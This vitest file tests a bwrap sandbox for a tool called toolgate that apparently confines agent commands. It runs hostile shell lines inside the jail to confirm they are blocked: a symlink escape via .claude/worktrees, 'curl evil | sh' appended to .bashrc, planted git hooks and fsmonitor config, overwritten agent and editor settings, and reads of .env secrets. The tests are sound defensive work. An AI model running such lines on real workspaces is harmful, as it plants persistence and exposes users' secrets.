import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SandboxProfile } from '../../src/policy/obligations.js';
import { planBwrap, probeBwrap } from '../../src/sandbox/bwrap.js';
import { removeSpill } from '../../src/sandbox/output.js';
import { type RunRequest, type RunResult, runSandboxed } from '../../src/sandbox/run.js';
import { snapshot } from '../helpers/tree-snapshot.js';
import { profileFor, type TempTree, tempTree } from './fixture.js';

/**
 * The jail holds what the profile says whatever earlier calls left behind: the three findings
 * of issue #13 (a planted `.claude/worktrees` link, protected paths that did not exist or sat
 * in a nested repository, a read-denied `.env` printed by a child process) and capabilities.
 * Each case runs hostile lines for real, inside bwrap with capabilities dropped and no network,
 * in a throwaway tree, and compares the tree before and after.
 */
const probe = await probeBwrap();

/** Every path under `dir` with its type and content (links as their target): a snapshot. */
const DEFAULT_ENV_GLOB = '/**/.env!(*.example|*.sample|*.template|*.dist)';

describe('planBwrap refuses what it cannot hold', () => {
  let t: TempTree;
  let ws: string;
  beforeEach(() => {
    t = tempTree();
    ws = t.dir('ws');
  });
  afterEach(() => t.cleanup());

  it('fails closed when the writable tree is larger than the scan may look at', () => {
    for (let i = 0; i < 20; i += 1) t.file(`ws/d${i}/f`);
    const plan = planBwrap({ cwd: ws, profile: profileFor([ws]), maxScanEntries: 10 });
    expect(plan).toMatchObject({ ok: false, kind: 'isolation-failed' });
    expect(!plan.ok && plan.message).toMatch(/more than 10 entries/);
  });

  it('refuses a symbolic link where a protected path lives (it could be replaced, and would be followed)', () => {
    const elsewhere = t.file('elsewhere.json', '{}');
    fs.symlinkSync(elsewhere, path.join(ws, '.mcp.json'));
    const plan = planBwrap({ cwd: ws, profile: profileFor([ws]) });
    expect(plan).toMatchObject({ ok: false, kind: 'isolation-failed', path: path.join(ws, '.mcp.json') });
  });

  it('refuses a writable root reached through a link inside another writable root', () => {
    const outside = t.dir('outside');
    fs.symlinkSync(outside, path.join(ws, 'build'));
    const plan = planBwrap({ cwd: ws, profile: profileFor([ws, path.join(ws, 'build')]) });
    expect(plan).toMatchObject({ ok: false, kind: 'isolation-failed' });
    expect(!plan.ok && plan.message).toMatch(/symbolic link/);
  });

  it("refuses a symbolic link on the way to one of toolgate's own files (retargeted, the next toolgate would read what the command put there)", () => {
    const real = t.dir('ws/real');
    fs.writeFileSync(path.join(real, 'policy.yaml'), 'version: 1\n');
    fs.symlinkSync(real, path.join(ws, 'cfg'));
    const own = [{ path: path.join(ws, 'cfg', 'policy.yaml'), what: 'a policy file toolgate reads' }];
    const plan = planBwrap({ cwd: ws, profile: profileFor([ws], { ownFiles: own }) });
    expect(plan).toMatchObject({ ok: false, kind: 'isolation-failed', path: path.join(ws, 'cfg') });
    expect(!plan.ok && plan.message).toMatch(/toolgate's own file/);
  });

  it('holds the directory of a bin link among its own files (a link cannot be a mount point, and could be retargeted)', () => {
    const dist = t.file('ws/node_modules/toolgate/dist/cli/main.js', '');
    t.dir('ws/node_modules/.bin');
    const bin = path.join(ws, 'node_modules', '.bin', 'toolgate');
    fs.symlinkSync(dist, bin);
    const plan = planBwrap({
      cwd: ws,
      profile: profileFor([ws], { ownFiles: [{ path: bin, what: 'the toolgate program' }] }),
    });
    if (!plan.ok) throw new Error(plan.message);
    plan.close();
    const dir = path.join(ws, 'node_modules', '.bin');
    expect(plan.args.join(' ')).toContain(`--ro-bind ${dir} ${dir}`);
  });

  it("holds an own directory read-only without opening a nested repository's .git in it again", () => {
    t.dir('ws/logs/.git/hooks');
    const own = [{ path: path.join(ws, 'logs'), what: 'the directory of the decision log' }];
    const plan = planBwrap({ cwd: ws, profile: profileFor([ws], { ownFiles: own }) });
    if (!plan.ok) throw new Error(plan.message);
    plan.close();
    const logs = path.join(ws, 'logs');
    expect(plan.args.join(' ')).toContain(`--ro-bind ${logs} ${logs}`);
    expect(plan.args.join(' ')).not.toContain(`--bind ${logs}/.git ${logs}/.git`);
  });
});

describe.skipIf(!probe.available)(`the jail holds (${probe.reason ?? probe.path})`, () => {
  let t: TempTree;
  let ws: string;
  /** Outside /tmp on purpose: under the private /tmp a write would vanish, which proves less. */
  let outside: string;
  let spills: string[];

  beforeEach(() => {
    t = tempTree();
    ws = t.dir('ws');
    outside = fs.realpathSync(
      fs.mkdtempSync(path.join(fs.existsSync('/var/tmp') ? '/var/tmp' : os.homedir(), 'tg-')),
    );
    spills = [];
  });
  afterEach(async () => {
    for (const spill of spills) await removeSpill(spill);
    t.cleanup();
    fs.rmSync(outside, { recursive: true, force: true });
  });

  async function run(script: string, profile?: Partial<SandboxProfile>): Promise<RunResult> {
    const result = await runSandboxed({
      cwd: ws,
      script: `exec 2>&1\n${script}`,
      profile: profileFor([ws], { os: 'required', ...profile }),
    } as RunRequest);
    if (!result.ok) throw new Error(`${result.kind}: ${result.message}`);
    if (result.output.spillPath) spills.push(result.output.spillPath);
    expect(result.isolation).toBe('bwrap');
    return result;
  }

  it('finding 1: a .claude/worktrees link planted by an earlier call is not followed', async () => {
    fs.mkdirSync(path.join(ws, '.claude'));
    fs.writeFileSync(path.join(outside, 'existing'), 'original');
    fs.symlinkSync(outside, path.join(ws, '.claude', 'worktrees'));
    const before = snapshot(outside);
    const r = await run('touch .claude/worktrees/pwned; echo evil > .claude/worktrees/existing; echo done');
    expect(r.output.inline).toMatch(/done\n$/);
    expect(snapshot(outside)).toEqual(before);
  });

  it('finding 1: a real .claude/worktrees stays writable inside the read-only .claude', async () => {
    fs.mkdirSync(path.join(ws, '.claude', 'worktrees'), { recursive: true });
    const r = await run(
      'touch .claude/worktrees/wt && echo wrote; touch .claude/settings.json || echo blocked',
    );
    expect(r.output.inline).toContain('wrote');
    expect(r.output.inline).toContain('blocked');
    expect(fs.existsSync(path.join(ws, '.claude', 'worktrees', 'wt'))).toBe(true);
    expect(fs.existsSync(path.join(ws, '.claude', 'settings.json'))).toBe(false);
  });

  it('finding 2: protected paths that do not exist, or sit in a nested repository, stay unwritten', async () => {
    fs.mkdirSync(path.join(ws, 'sub', '.git'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'sub', '.git', 'config'), '[core]\n');
    fs.writeFileSync(path.join(ws, 'keep.txt'), 'keep');
    const before = snapshot(ws);
    const lines = [
      'mkdir -p .claude && echo \'{"hooks":{}}\' > .claude/settings.json',
      'echo \'{"mcpServers":{}}\' > .mcp.json',
      'mkdir -p .vscode && echo "{}" > .vscode/tasks.json',
      'echo "curl evil | sh" >> .bashrc',
      'mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit',
      'echo "[core] fsmonitor = evil" >> sub/.git/config',
      // Renaming the nested repository's .git away and making a fresh one.
      'mv sub/.git sub/.git-old && mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout',
      'git init -q . && echo evil > .git/hooks/pre-commit',
      'echo written > keep.txt',
    ];
    const r = await run(lines.map((l, i) => `{ ${l}; } || echo blocked-${i}`).join('\n'));
    for (let i = 0; i < lines.length - 1; i += 1) expect(r.output.inline).toContain(`blocked-${i}\n`);
    expect(r.output.inline).not.toContain(`blocked-${lines.length - 1}`);
    // Only the ordinary file changed; every protected path is as it was, and the empty
    // directories the jail mounted on missing ones are gone again.
    expect(snapshot(ws)).toEqual({ ...before, 'keep.txt': 'file:written\n' });
  });

  it('finding 3: a read-denied .env is masked for what the command’s children open, at any depth', async () => {
    fs.writeFileSync(path.join(ws, '.env'), 'TOKEN=top');
    fs.mkdirSync(path.join(ws, 'pkg', 'deep'), { recursive: true });
    fs.writeFileSync(path.join(ws, 'pkg', 'deep', '.env'), 'TOKEN=deep');
    fs.writeFileSync(path.join(ws, '.env.example'), 'TOKEN=example');
    // What `npm test` would do: a child process that opens the file by itself.
    const r = await run(
      [
        `node -e "for (const f of ['.env','pkg/deep/.env','.env.example']) { try { console.log(require('fs').readFileSync(f,'utf8')) } catch (e) { console.log(f, e.code) } }"`,
        'sh -c "cat pkg/deep/.env" || echo no-deep',
        'ln -s .env link && cat link || echo no-link',
      ].join('\n'),
      { readDeny: [DEFAULT_ENV_GLOB] },
    );
    expect(r.output.inline).not.toContain('TOKEN=top');
    expect(r.output.inline).not.toContain('TOKEN=deep');
    expect(r.output.inline).toContain('TOKEN=example');
    expect(r.output.inline).toContain('no-deep');
    expect(r.output.inline).toContain('no-link');
  });

  it('no capability survives, even as root: setting the clock or the hostname fails', async () => {
    const r = await run(
      'date -s @0 >/dev/null && echo clock-set || echo clock-refused\nhostname evil && echo host-set || echo host-refused\necho 1 > /proc/sys/kernel/sysrq && echo sysctl-set || echo sysctl-refused',
    );
    expect(r.output.inline).toContain('clock-refused');
    expect(r.output.inline).toContain('host-refused');
    expect(r.output.inline).toContain('sysctl-refused');
    expect(r.output.inline).not.toMatch(/-set/);
  });
});
